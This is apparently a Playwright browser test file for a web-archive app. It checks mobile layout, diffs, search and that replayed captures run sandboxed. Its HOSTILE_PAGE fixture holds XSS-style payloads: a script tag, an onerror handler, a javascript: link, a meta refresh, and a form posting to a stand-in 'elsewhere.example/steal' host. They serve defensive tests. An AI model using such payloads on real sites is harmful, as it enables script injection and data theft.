import assert from 'node:assert/strict';
import { statSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import type { Browser } from 'playwright-core';
import { loadCodec } from '../../src/archive/codec.js';
import { isLoopbackHost, launchChromium } from '../helpers/browser.js';
import { startServe, type ForestProcess } from '../helpers/cli.js';
import { smallArchive } from '../helpers/small-archive.js';
import { tempDir } from '../helpers/temp.js';

// The web app in a real browser: Debian's Chromium driven by playwright-core (installed by
// scripts/install-chromium.sh, which `npm test` runs first), against `forest serve`.

const dir = tempDir();
const database = join(dir, 'archive.db');
// A captured page that runs a script: replayed as a memento, it must not.
const HOSTILE_PAGE = [
  '<script>document.title = "script ran"; alert("script ran")</script>',
  '<img src="x" onerror="alert(\'handler ran\')">',
  '<a id="js" href="javascript:alert(\'link ran\')">click me</a>',
  '<meta http-equiv="refresh" content="0; url=https://elsewhere.example/">',
  '<form action="https://elsewhere.example/steal" method="post"><input name="q" value="x"><button id="send">send</button></form>',
  '<img src="https://tracker.example/pixel.gif">',
].join('');
let server: ForestProcess;
let base = '';
let browser: Browser;

before(async () => {
  await loadCodec();
  await smallArchive(database, ['One', 'Two', 'Three'], { firstPageExtra: HOSTILE_PAGE, latestHtmlExtra: HOSTILE_PAGE }).close();
  ({ server, base } = await startServe(['--db', database]));
  browser = await launchChromium();
});

after(async () => {
  await browser?.close();
  server?.kill('SIGTERM');
});

test('without JavaScript, on a phone: from the dashboard to an article, to what changed, side by side and inline', async () => {
  const context = await browser.newContext({ javaScriptEnabled: false, viewport: { width: 375, height: 740 }, isMobile: true });
  const page = await context.newPage();
  await page.goto(base);
  await page.getByRole('link', { name: 'One' }).click();
  assert.match(page.url(), /\/articles\/1$/);
  assert.equal(await page.getByRole('heading', { level: 2 }).first().textContent(), 'One');
  await page.getByRole('link', { name: 'what changed' }).click();
  assert.equal(await page.locator('del').first().textContent(), 'no');
  assert.equal(await page.locator('ins').first().textContent(), 'yes');
  await page.getByRole('link', { name: 'inline' }).click();
  assert.match(page.url(), /view=inline/);
  assert.equal(await page.locator('td[colspan="2"] del').count(), 1);
  const shot = join(dir, 'diff-phone.png');
  await page.screenshot({ path: shot, fullPage: true });
  assert.ok(statSync(shot).size > 5_000, 'a screenshot with something on it');
  await context.close();
});

test('an article\'s timeline: every version, what changed and each capture open from it, with no console error; extracted HTML is shown sanitized', async () => {
  const page = await browser.newPage();
  const problems: string[] = [];
  // The app's own console: the framed capture's messages (its scripts blocked by the sandbox, as
  // the capture-view tests check) come from the capture origin.
  page.on('console', (message) => {
    if ((message.type() === 'error' || message.type() === 'warning') && message.location().url !== '' && new URL(message.location().url).origin === new URL(base).origin) problems.push(`${message.type()}: ${message.text()} (${message.location().url})`);
  });
  page.on('pageerror', (error) => problems.push(error.message));
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.goto(`${base}/articles/1`);
  // The version shown carries the hostile markup as if extraction had let it through: none of it reaches the page.
  assert.deepEqual(await page.evaluate(() => document.querySelectorAll('article script, article [onerror], article form, article meta, article a[href^="javascript:"]').length), 0);
  assert.match((await page.locator('article').textContent()) ?? '', /The mayor said yes/);
  assert.equal(await page.locator('article a.image[href="https://tracker.example/pixel.gif"]').count(), 1, 'an image is a link to it, not a request to its site');
  const timeline = page.locator('ol.timeline');
  const entries = await timeline.locator('li').count();
  assert.equal(entries, 2, 'two versions on the timeline');
  for (let i = 0; i < entries; i++) {
    await page.goto(`${base}/articles/1`);
    const entry = page.locator('ol.timeline li').nth(i);
    const changed = entry.getByRole('link', { name: 'what changed' });
    if (await changed.count()) {
      await changed.click();
      assert.match(page.url(), new RegExp(`/articles/1/diff\\?from=${i}&to=${i + 1}$`));
      assert.ok(await page.locator('ins, del').count() > 0, 'the diff shows the change');
      await page.goBack();
    }
    await page.locator('ol.timeline li').nth(i).getByRole('link', { name: 'capture' }).click();
    assert.match(page.url(), /\/captures\/\d{14}\/https:\/\/a\.example\/1$/);
    await page.frameLocator('iframe').locator('body').waitFor();
  }
  // Any two versions, from the form (no script needed).
  await page.goto(`${base}/articles/1`);
  await page.getByRole('combobox', { name: 'from version' }).selectOption('1');
  await page.getByRole('combobox', { name: 'to version' }).selectOption('2');
  await page.getByRole('button', { name: 'Compare' }).click();
  assert.match(page.url(), /\/articles\/1\/diff\?from=1&to=2$/);
  await page.waitForTimeout(500);
  assert.deepEqual(dialogs, []);
  assert.deepEqual(problems, [], 'no console error or warning on the way');
  await page.close();
});

test('pages fit a phone screen: nothing wider than the viewport', async () => {
  const context = await browser.newContext({ viewport: { width: 375, height: 740 }, isMobile: true });
  const page = await context.newPage();
  for (const path of ['/', '/feeds/1', '/articles/1', '/articles/1/diff', '/search?q=mayor']) {
    await page.goto(`${base}${path}`);
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
    assert.ok(overflow <= 0, `${path} is ${overflow}px wider than the screen`);
  }
  await context.close();
});

test('a diff\'s unchanged blocks expand in place, by keyboard, without a script', async () => {
  const context = await browser.newContext({ javaScriptEnabled: false });
  const page = await context.newPage();
  await page.goto(`${base}/articles/1/diff`);
  const paragraph = page.getByText('First paragraph of the story.');
  assert.equal(await paragraph.isVisible(), false, 'the unchanged paragraph is folded');
  const toggle = page.getByText('1 unchanged block (show)');
  await toggle.focus();
  await page.keyboard.press('Enter');
  assert.equal(await paragraph.isVisible(), true, 'and shown once expanded');
  await context.close();
});

test('search from the form finds text an edit removed, and says so', async () => {
  const page = await browser.newPage();
  await page.goto(`${base}/search`);
  await page.getByRole('searchbox', { name: 'search' }).fill('mayor said no');
  await page.getByRole('button', { name: 'Search' }).click();
  const first = page.locator('li', { has: page.getByRole('link', { name: 'One' }) });
  assert.match((await first.textContent()) ?? '', /removed by a later edit/);
  await page.close();
});

test('an archived page replays as it was captured, but its scripts do not run', async () => {
  const page = await browser.newPage();
  const response = await page.goto(`${base}/timegate/https://a.example/1`, { waitUntil: 'load' });
  assert.ok(response);
  assert.match(page.url(), /\/memento\/\d{14}\/https:\/\/a\.example\/1$/);
  assert.match((await page.textContent('body')) ?? '', /The mayor said yes/);
  await page.goto(`${base}/memento/20261102000100/https://a.example/1`);
  assert.match((await page.textContent('body')) ?? '', /The mayor said no/);
  assert.equal(await page.title(), 'One', 'the page\'s own script did not run');
  await page.close();
});

test('the capture view shows the archived page in a sandboxed frame from the capture origin', async () => {
  const page = await browser.newPage();
  await page.goto(`${base}/articles/1`);
  await page.getByRole('link', { name: 'capture' }).first().click();
  assert.match(page.url(), /\/captures\/20261102000100\/https:\/\/a\.example\/1$/);
  assert.match((await page.frameLocator('iframe').locator('body').textContent()) ?? '', /The mayor said no/);
  const frame = page.frames().find((candidate) => /\/memento\//.test(candidate.url()));
  assert.ok(frame, 'the capture is framed');
  assert.notEqual(new URL(frame.url()).origin, new URL(base).origin);
  await page.close();
});

test('nothing of a hostile archived page runs in the capture view: no dialog, no navigation, no request leaving the archive', async () => {
  const page = await browser.newPage();
  const dialogs: string[] = [];
  const outside: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  // Chromium reports a request the page's policy stopped as one that failed with 'csp': it never
  // left. Anything else to another host (answered, or failed on the closed network) tried to.
  page.on('requestfinished', (request) => {
    if (!isLoopbackHost(new URL(request.url()).hostname)) outside.push(request.url());
  });
  page.on('requestfailed', (request) => {
    if (!isLoopbackHost(new URL(request.url()).hostname) && !/csp|blocked/i.test(request.failure()?.errorText ?? '')) outside.push(`${request.url()} (${request.failure()?.errorText})`);
  });
  const errors: string[] = [];
  page.on('pageerror', (error) => errors.push(error.message));
  await page.goto(`${base}/captures/20261102000100/https://a.example/1`, { waitUntil: 'load' });
  const frame = page.frameLocator('iframe');
  assert.match((await frame.locator('body').textContent()) ?? '', /The mayor said no/);
  // Try what a reader might: the javascript: link and the form.
  await frame.locator('#js').click({ timeout: 2000 }).catch(() => undefined);
  await frame.locator('#send').click({ timeout: 2000 }).catch(() => undefined);
  await page.waitForTimeout(1500); // the meta refresh had 0 s
  assert.deepEqual(dialogs, [], 'no script, handler or javascript: link ran');
  assert.deepEqual(outside, [], 'no request left the archive (the tracker, the refresh, the form)');
  assert.match(page.url(), /\/captures\/20261102000100\//, 'the app page did not navigate');
  const framed = page.frames().find((candidate) => /\/memento\//.test(candidate.url()));
  assert.ok(framed && /\/memento\/20261102000100\/https:\/\/a\.example\/1$/.test(framed.url()), `the frame stayed on the capture (${framed?.url()})`);
  assert.deepEqual(errors, [], 'the app itself raised no error');
  await page.close();
});
